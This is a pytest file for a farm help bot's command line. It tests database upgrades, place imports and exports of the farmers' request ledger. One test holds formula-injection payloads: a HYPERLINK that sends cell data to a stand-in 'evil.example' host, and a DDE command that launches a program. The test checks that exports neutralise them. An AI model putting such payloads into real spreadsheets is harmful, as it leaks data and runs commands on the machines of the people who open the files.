"""The command line: db upgrade and the request ledger export."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient

from bot.cli import main
from bot.settings import Settings
from tests.wechat_client import FakeWeChat, post


@pytest.fixture
def cli_env(settings: Settings) -> dict[str, str]:
    return {
        "FARMHELP_DATABASE_URL": settings.database_url,
        "FARMHELP_INSTANCE_DIR": str(settings.instance_dir),
        "WECHAT_TOKEN": settings.wechat_token,
    }


def _seed(client: FlaskClient, wechat: FakeWeChat) -> None:
    post(client, wechat, wechat.text("farmer-a", "辣椒叶子卷了"))
    post(client, wechat, wechat.text("farmer-b", "鸡不下蛋"))


def test_export_jsonl(
    client: FlaskClient, plain_wechat: FakeWeChat, cli_env: dict[str, str]
) -> None:
    _seed(client, plain_wechat)
    result = CliRunner().invoke(main, ["requests", "export", "--format", "jsonl"], env=cli_env)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["farmer_openid"] for row in rows] == ["farmer-a", "farmer-b"]
    assert {"code", "created_at", "status", "crop", "category", "urgency", "place", "text"} <= set(
        rows[0]
    )
    assert rows[0]["text"] == "辣椒叶子卷了"


def test_the_ledger_streams_in_batches_with_progress(
    client: FlaskClient,
    plain_wechat: FakeWeChat,
    cli_env: dict[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Batches of 2 over 5 requests: every row once, in order, its survey and visits from
    its own batch; progress on standard error, not in the export."""
    import bot.files.ledger

    monkeypatch.setattr(bot.files.ledger, "BATCH", 2)
    for n in range(5):
        post(client, plain_wechat, plain_wechat.text(f"farmer-{n}", f"第{n}家的辣椒叶子卷了"))
    result = CliRunner().invoke(main, ["requests", "export", "--format", "jsonl"], env=cli_env)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["farmer_openid"] for row in rows] == [f"farmer-{n}" for n in range(5)]
    assert [line for line in result.stderr.splitlines() if line.startswith("exported")] == [
        "exported 2 of 5 requests (40%)",
        "exported 4 of 5 requests (80%)",
        "exported 5 of 5 requests (100%)",
    ]
    path = tmp_path / "ledger.xlsx"
    result = CliRunner().invoke(
        main, ["requests", "export", "--format", "xlsx", "--output", str(path)], env=cli_env
    )
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None and sheet.max_row == 6 and sheet.freeze_panes == "B2"
    assert [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        f"第{n}家的辣椒叶子卷了" for n in range(5)
    ]


def test_export_csv_and_xlsx_files(
    client: FlaskClient, plain_wechat: FakeWeChat, cli_env: dict[str, str], tmp_path: Path
) -> None:
    _seed(client, plain_wechat)
    runner = CliRunner()
    csv_path, xlsx_path = tmp_path / "ledger.csv", tmp_path / "ledger.xlsx"
    for fmt, path in (("csv", csv_path), ("xlsx", xlsx_path)):
        result = runner.invoke(
            main, ["requests", "export", "--format", fmt, "--output", str(path)], env=cli_env
        )
        assert result.exit_code == 0, result.output
        assert "wrote 2 requests" in result.output
    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert rows[1]["农户说"] == "鸡不下蛋"
    assert rows[1]["问题类别"] == "畜牧兽医" and rows[1]["状态"] in ("登记中", "无人接单")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", rows[1]["登记时间"])  # local, minutes
    assert "farmer-b" not in csv_path.read_text(encoding="utf-8-sig")  # no openids for staff
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:3] == ("编号", "登记时间", "状态") and values[2][8] == "鸡不下蛋"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "@SUM(A1)",
]


def test_exports_write_formulas_as_text(
    client: FlaskClient, plain_wechat: FakeWeChat, cli_env: dict[str, str], tmp_path: Path
) -> None:
    said = [f"{formula} 玉米叶子黄了" for formula in FORMULAS]  # a farmer's words, formula first
    for number, words in enumerate(said):
        post(client, plain_wechat, plain_wechat.text(f"farmer-f{number}", words))
    runner = CliRunner()
    xlsx_path, csv_path = tmp_path / "ledger.xlsx", tmp_path / "ledger.csv"
    for fmt, path in (("xlsx", xlsx_path), ("csv", csv_path)):
        result = runner.invoke(
            main, ["requests", "export", "--format", fmt, "--output", str(path)], env=cli_env
        )
        assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(xlsx_path)
    sheet = workbook.active
    assert sheet is not None
    cells = [row[8] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == said
    assert all(cell.data_type == "s" for cell in cells)  # strings, not formulas ("f")
    rows = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert [row["农户说"] for row in rows] == ["'" + words for words in said]


def test_export_xlsx_to_stdout_is_refused(cli_env: dict[str, str]) -> None:
    result = CliRunner().invoke(main, ["requests", "export", "--format", "xlsx"], env=cli_env)
    assert result.exit_code != 0 and "--output" in result.output


def test_db_upgrade_on_a_new_sqlite_file(tmp_path: Path) -> None:
    env = {
        "FARMHELP_DATABASE_URL": f"sqlite:///{tmp_path / 'new.sqlite3'}",
        "FARMHELP_INSTANCE_DIR": str(tmp_path),
    }
    runner = CliRunner()
    first = runner.invoke(main, ["db", "upgrade"], env=env)
    assert first.exit_code == 0, first.output
    assert "created the schema at revision" in first.output  # says what it did
    again = runner.invoke(main, ["db", "upgrade"], env=env)  # idempotent
    assert again.exit_code == 0, again.output
    assert "already at revision" in again.output and "nothing to do" in again.output


def test_import_on_a_fresh_sqlite_file_creates_the_schema(tmp_path: Path) -> None:
    env = {
        "FARMHELP_DATABASE_URL": f"sqlite:///{tmp_path / 'fresh.sqlite3'}",
        "FARMHELP_INSTANCE_DIR": str(tmp_path),
    }
    places = tmp_path / "places.csv"
    places.write_text("county,township,village\n青川县,木鱼镇,石坝村\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["places", "import", str(places)], env=env)
    assert result.exit_code == 0, result.output
    assert "新增 1" in result.output and "Traceback" not in result.output


def test_bad_configuration_is_a_clear_error(tmp_path: Path) -> None:
    env = {
        "FARMHELP_ENV": "production",
        "FARMHELP_INSTANCE_DIR": str(tmp_path),
        "FARMHELP_SECRET_KEY": "",
        "WECHAT_TOKEN": "",
    }
    result = CliRunner().invoke(main, ["db", "upgrade"], env=env)
    assert result.exit_code == 1
    assert "production needs these set" in result.output and "WECHAT_TOKEN" in result.output


def test_serve_readies_sqlite_and_refuses_a_postgresql_database_without_the_schema(
    database_url: str, tmp_path: Path
) -> None:
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url

    from bot.service import ready_schema
    from bot.settings import load_settings
    from models.db import make_engine
    from models.migrate import schema_revisions

    if database_url.startswith("sqlite"):  # the embedded default creates what it needs
        fresh = f"sqlite:///{tmp_path / 'fresh.sqlite3'}"
        ready_schema(load_settings(database_url=fresh, instance_dir=tmp_path))
        engine = make_engine(fresh)
        current, head = schema_revisions(engine)
        engine.dispose()
        assert current == head
        return
    admin = create_engine(make_url(database_url).set(drivername="postgresql+psycopg"))
    with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
        connection.execute(text("DROP DATABASE IF EXISTS farmhelp_empty"))
        connection.execute(text("CREATE DATABASE farmhelp_empty"))
    admin.dispose()
    empty = make_url(database_url).set(database="farmhelp_empty").render_as_string(False)
    result = CliRunner().invoke(
        main,
        ["serve"],
        env={"FARMHELP_DATABASE_URL": empty, "FARMHELP_INSTANCE_DIR": str(tmp_path)},
    )
    assert result.exit_code == 1
    assert "has no farmhelp schema" in result.output and "farmhelp db upgrade" in result.output
    assert "Traceback" not in result.output
